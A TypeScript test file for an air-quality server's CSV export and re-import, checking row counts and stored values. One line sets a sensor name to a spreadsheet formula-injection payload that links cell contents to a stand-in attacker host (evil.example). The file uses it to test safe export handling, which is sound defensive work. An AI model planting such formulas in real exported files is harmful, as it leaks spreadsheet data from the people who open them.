import { rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { createWorld } from '../modules/testsupport/world.ts'
import { scratchFolder } from '../testing/scratchFolder.ts'
import { seedReadings } from '../testing/seed.ts'
import { TEST_NOW_MS } from '../testing/testServer.ts'
import { importFile } from './importFile.ts'
import { createStoreSink } from './storeSink.ts'

it('reads an export of this server, below its quoted comments', async () => {
  const world = await createWorld()
  const folder = await scratchFolder('airshed-import-')
  try {
    const { pm25 } = world.city
    const name = 'Roof,=HYPERLINK("http://evil.example/?"&A9;"click")'
    await world.context.store.db.updateTable('nodes').set({ name }).execute()
    await seedReadings(world.context, pm25, [
      [TEST_NOW_MS - 120_000, 4.25],
      [TEST_NOW_MS - 60_000, 5.5],
    ])
    const search = { data_point_id: [pm25.id], from: TEST_NOW_MS - 3_600_000, to: TEST_NOW_MS }
    const exported = await world.call<string>('user', 'POST', 'search/measurements/export', search)
    const file = join(folder, 'readings.csv')
    await writeFile(file, exported.body)
    const skipLines = exported.body.split('\r\n').findIndex((line) => line.startsWith('time,'))
    expect(skipLines).toBeGreaterThan(5)
    const report = await importFile({
      file,
      map: {
        serial: 'copy',
        skipLines,
        time: { column: 'time' },
        columns: { value: { parameter: 'pm25', unit: 'µg/m³' } },
      },
      sink: await createStoreSink(world.context, 'city'),
      now: TEST_NOW_MS,
    })
    // The last line of the file counts its readings.
    expect(report).toMatchObject({ rowsRead: 3, rowsRefused: 1 })
    const { rows } = await world.context.store.db
      .selectFrom('data_points')
      .select('last_value')
      .where('node_id', '=', 'copy:0')
      .execute()
      .then((found) => ({ rows: found }))
    expect(rows).toEqual([{ last_value: 5.5 }])
  } finally {
    await world.close()
    await rm(folder, { recursive: true, force: true })
  }
})
